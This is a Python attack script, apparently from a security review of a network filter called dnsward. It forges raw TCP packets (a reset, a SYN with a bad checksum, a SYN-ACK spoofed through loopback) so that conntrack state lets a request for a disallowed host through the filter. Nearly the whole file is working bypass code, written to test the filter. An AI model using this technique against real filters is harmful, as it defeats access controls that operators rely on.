"""The eleventh review's variant of the tenth's (CAP_NET_RAW in-guest): dnsward never sees the
new handshake. After an allowed connection ended by a raw reset, a SYN with the same ISN and
a wrong checksum (conntrack, on output, does not check it, and reopens the entry guarded; the
server drops it) and a SYN-ACK forged to this host's own address, which comes in on lo and is
never queued (conntrack learns the cookie from it); then a request for EVIL acknowledging the
old cookie. Queued, it met the decided connection's lingering Allow; the front end opened a
connection from the cookie and answered. Prints the answer's last line, or `error ...`.

usage: cookie_unseen_attack.py SRC DST GOOD EVIL   (port 80; the caller drops packets with
the checksum 0xdead before the server, as a server's NIC would, and this host's own RSTs to
DST unless they carry the mark 0x77)"""
import os
import random
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawtcp import ACK, FIN, MSS, PSH, RST, SYN, Raw, answer, csum  # noqa: E402

src, dst, good, evil = sys.argv[1:5]
t = Raw(src, dst, 80, random.randint(42000, 60000))
REQ1 = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % good).encode()
REQ2 = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()
X = random.randint(1 << 20, 1 << 31)
C = t.synack(X)
if C is None:
    print("error no SYN-ACK")
    sys.exit(0)
t.send(X + 1, C + 1, ACK | PSH, REQ1)
got = t.until(lambda p: b"hello" in p["data"])
if not got or b"hello %s" % good.encode() not in got[-1]["data"]:
    print("error REQ1 not answered")
    sys.exit(0)
t.send(X + 1 + len(REQ1), 0, RST)
# The SYN again, its checksum 0xdead (wrong): sent as is.
syn = struct.pack("!HHIIBBHHH", t.sport, 80, X, 0, (20 + len(MSS)) // 4 << 4, SYN, 65535, 0xdead, 0) + MSS
t.raw.sendto(syn, (dst, 0))
# The SYN-ACK, forged from DST to this host: through lo.
seg = struct.pack("!HHIIBBHHH", 80, t.sport, C, (X + 1) & 0xffffffff, 5 << 4, SYN | ACK, 65535, 0, 0)
pseudo = socket.inet_aton(dst) + socket.inet_aton(src) + struct.pack("!BBH", 0, 6, len(seg))
seg = seg[:16] + struct.pack("!H", csum(pseudo + seg)) + seg[18:]
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 1, 0, 64, 6, 0, socket.inet_aton(dst), socket.inet_aton(src))
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(ip + seg, (src, 0))
t.send(X + 1, C + 1, ACK | PSH, REQ2)  # in order after the three above: no wait
got = t.until(lambda p: p["flags"] & (FIN | RST) or b"hello" in p["data"])
print(answer(got))
